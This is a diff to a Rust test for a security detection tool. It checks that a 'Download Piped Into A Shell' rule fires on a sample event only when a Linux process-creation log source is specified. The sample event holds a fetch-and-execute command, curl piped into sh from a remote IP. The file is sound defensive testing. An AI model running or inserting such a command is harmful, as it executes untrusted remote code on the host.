@@ -265,6 +265,30 @@ fn detect_lint_and_coverage_run_on_rule_files() {
     );
     assert!(ok, "{err}");
     assert!(out.contains("Certutil Decoding A File"));
+    // A plain record says nothing about its log source: `--logsource` does.
+    let plain = r#"{"CommandLine": "curl -s http://198.51.100.7/i.sh | sh"}"#;
+    let (ok, out, err) = secops(
+        &dir,
+        &["detect", "--rules", &path("rules"), "--events", "-"],
+        plain,
+    );
+    assert!(ok, "{err}");
+    assert!(!out.contains("Download Piped Into A Shell"));
+    let (ok, out, err) = secops(
+        &dir,
+        &[
+            "detect",
+            "--rules",
+            &path("rules"),
+            "--events",
+            "-",
+            "--logsource",
+            "product=linux,category=process_creation",
+        ],
+        plain,
+    );
+    assert!(ok, "{err}");
+    assert!(out.contains("Download Piped Into A Shell"), "{out}");
     let (ok, _, err) = secops(
         &dir,
         &[
